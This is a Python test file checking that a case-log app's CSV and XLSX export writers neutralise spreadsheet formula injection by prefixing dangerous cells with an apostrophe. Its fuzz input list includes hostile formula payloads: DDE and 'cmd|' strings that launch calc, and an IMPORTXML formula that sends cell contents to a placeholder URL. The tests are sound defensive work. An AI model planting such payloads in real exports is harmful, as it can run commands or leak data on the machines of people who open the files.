"""The export writers: no cell a spreadsheet would run, text as written, numbers as numbers.

10,000 generated strings (leading = + - @ tab and carriage return, unicode, separators,
quotes, line breaks, numbers and error codes typed as text) go through the CSV and the
XLSX writer and are read back as a spreadsheet program would read them.
"""

import csv
import io
import random
import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from caselog.exports.writers import (
    BOM,
    FORMULA_STARTS,
    csv_chunks,
    safe_cell,
    write_xlsx,
    xlsx_text,
)

COUNT = 10_000
PER_ROW = 10
STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "==",
    "=-",
    "-=",
    "+=",
    "@@",
    "\t=",
    "\r\n=",
    "",
    "",
    "",
    " ",
    " =",
    "'",
    "'=",
    "#",
    "\n",
    "\u00a0=",
]
PIECES = [
    "SUM(A1:A9)",
    "1+1",
    'cmd|" /C calc"!A0',
    'HYPERLINK("http://x.test","y")',
    'IMPORTXML(CONCAT("http://x.test/?",A1),"//a")',
    'DDE("cmd";"/C calc";"__")',
    "Lumbar microdiscectomy",
    "Батбаяр Дорж",
    "Дискэктоми хийсэн",
    "척추 감압술",
    "김민준",
    "naïve café",
    "🙂",
    "e\u0301",
    "a,b",
    "a;b",
    '"quoted"',
    "it's",
    "line\nbreak",
    "crlf\r\nbreak",
    "lone\rreturn",
    "tab\there",
    "  spaced  ",
    "123",
    "-1.5",
    "1e5",
    "007",
    "+82 10 1234 5678",
    "#N/A",
    "#DIV/0!",
    "TRUE",
    "2024-03-04",
    "90+",
    "_x000D_",
    "<b>&amp;",
    "]]>",
    "\\",
    "%s",
    "{0}",
]


def generated_strings(count: int = COUNT, seed: int = 20240304) -> list[str]:
    """Random mixes of dangerous starts and awkward pieces, reproducible from the seed."""
    rng = random.Random(seed)
    return [
        rng.choice(STARTS) + "".join(rng.choice(PIECES) for _ in range(rng.randint(0, 4)))
        for _ in range(count)
    ]


def rows_of(strings: list[str]) -> list[list]:
    """The strings, PER_ROW to a row, each row ending with numbers (an int and a float)."""
    return [[*strings[i : i + PER_ROW], -i, i + 0.25] for i in range(0, len(strings), PER_ROW)]


def dangerous(text: str) -> bool:
    """Read as a formula: = + - @ tab or return first, or = + - @ after the blanks that
    STARTS can put before them (spaces, no-break spaces, line breaks)."""
    return text.startswith(FORMULA_STARTS) or text.lstrip(" \t\r\n\u00a0")[:1] in list("=+-@")


def neutralised(text: str) -> str:
    return "'" + text if dangerous(text) else text


def test_the_generated_strings_include_every_dangerous_start():
    strings = generated_strings()
    for start in [*FORMULA_STARTS, " =", "\u00a0="]:
        assert sum(s.startswith(start) for s in strings) > 100, start


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\r=x", "=", "-"])
def test_a_formula_start_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        " =1+1",
        "   +1",
        "\n-1",
        " \t =HYPERLINK(1)",
        "\u00a0=1",  # a no-break space
        "\u3000@SUM(A1)",  # an ideographic space, as Korean keyboards type it
        "\u200b=1",  # a zero-width space: nothing shows before the sign
        "\ufeff=1",  # a byte-order mark
        "\x00=1",
        "\x0b\x0c-1",
    ],
)
def test_a_formula_sign_after_blanks_or_invisible_characters_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text
    assert not xlsx_text(text).lstrip("'").startswith(tuple("=+-@"))
    assert xlsx_text(text).startswith("'")


@pytest.mark.parametrize(
    "value",
    [
        "a=b",
        "1+1",
        " a=1",
        "  spaced  ",
        "\u200bname",
        "'=1",
        "",
        "Дорж",
        -5,
        3.5,
        0,
        None,
        date(2024, 3, 4),
        datetime(2024, 3, 4, tzinfo=UTC),
    ],
)
def test_anything_else_is_left_as_it_is(value):
    assert safe_cell(value) == value


def test_csv_cells_never_start_a_formula_and_read_back_as_written():
    strings = generated_strings()
    data = b"".join(csv_chunks(["text"] * PER_ROW + ["int", "float"], rows_of(strings)))
    assert data.startswith(BOM.encode())
    text = data.decode("utf-8-sig")
    raw = list(csv.reader(io.StringIO(text, newline="")))  # every cell as text, quotes gone
    typed = list(csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC))
    assert len(typed) == 1 + COUNT // PER_ROW
    read = []
    for raw_row, typed_row in zip(raw[1:], typed[1:], strict=True):
        for cell in raw_row[:PER_ROW]:  # the text cells (a negative number is a number)
            assert not dangerous(cell), repr(cell)
        *texts, whole, fraction = typed_row
        assert all(isinstance(t, str) for t in texts)  # "123" typed as text stays text
        assert isinstance(whole, float) and isinstance(fraction, float)  # unquoted numbers
        read.extend(texts)
    assert read == [neutralised(s) for s in strings]
    assert [row[-2:] for row in typed[1:]] == [[-i, i + 0.25] for i in range(0, COUNT, PER_ROW)]


def test_xlsx_has_no_formula_cell_and_reads_back_as_written():
    strings = generated_strings()
    target = io.BytesIO()
    written = write_xlsx(
        target, ["text"] * PER_ROW + ["int", "float"], rows_of(strings), title="Cases"
    )
    assert written == COUNT // PER_ROW
    with zipfile.ZipFile(io.BytesIO(target.getvalue())) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    sheet = load_workbook(io.BytesIO(target.getvalue())).worksheets[0]
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == COUNT // PER_ROW
    read, numbers = [], []
    for row in rows:
        row = list(row) + [None] * (PER_ROW + 2 - len(row))
        for cell in row[:PER_ROW]:
            if cell is None or cell.value is None:  # "" is no cell, not an empty text cell
                assert cell is None or cell.data_type != "inlineStr"
                read.append("")
                continue
            assert cell.data_type == "s", (cell.data_type, repr(cell.value))
            assert not dangerous(cell.value), repr(cell.value)
            read.append(cell.value)
        for cell in row[PER_ROW:]:
            assert cell.data_type == "n" and isinstance(cell.value, int | float)
            numbers.append(cell.value)
    # As written, apart from the apostrophe; a line break is stored as Excel's own "\n"
    # (XML turns a bare carriage return into one: see writers.xlsx_text).
    assert read == [neutralised(s).replace("\r\n", "\n").replace("\r", "\n") for s in strings]
    assert numbers == [n for i in range(0, COUNT, PER_ROW) for n in (-i, i + 0.25)]


def test_xlsx_keeps_dates_as_dates_and_times_in_utc():
    target = io.BytesIO()
    moment = datetime(2024, 3, 4, 23, 30, tzinfo=UTC)
    write_xlsx(target, ["day", "moment"], [[date(2024, 3, 4), moment]], title="Cases")
    day, when = load_workbook(target).worksheets[0][2]
    assert (day.is_date, day.value.date(), day.number_format) == (
        True,
        date(2024, 3, 4),
        "yyyy-mm-dd",
    )
    assert when.is_date and when.value == moment.replace(tzinfo=None)


def test_error_codes_stay_text_in_xlsx():
    target = io.BytesIO()
    write_xlsx(target, ["text"], [["#N/A"], ["#DIV/0!"]], title="Cases")
    cells = [row[0] for row in load_workbook(target).worksheets[0].iter_rows(min_row=2)]
    assert [(c.data_type, c.value) for c in cells] == [("s", "#N/A"), ("s", "#DIV/0!")]


def test_characters_xml_cannot_hold_are_replaced_not_fatal():
    assert xlsx_text("a\x00b\x0bc\x1f\ufffe") == "a\ufffdb\ufffdc\ufffd\ufffd"
    target = io.BytesIO()
    write_xlsx(target, ["text"], [["=bell\x07"]], title="Cases")
    cell = load_workbook(target).worksheets[0]["A2"]
    assert (cell.data_type, cell.value) == ("s", "'=bell\ufffd")


def test_a_bool_is_refused_rather_than_written_as_a_number():
    with pytest.raises(TypeError):
        b"".join(csv_chunks(["flag"], [[True]]))
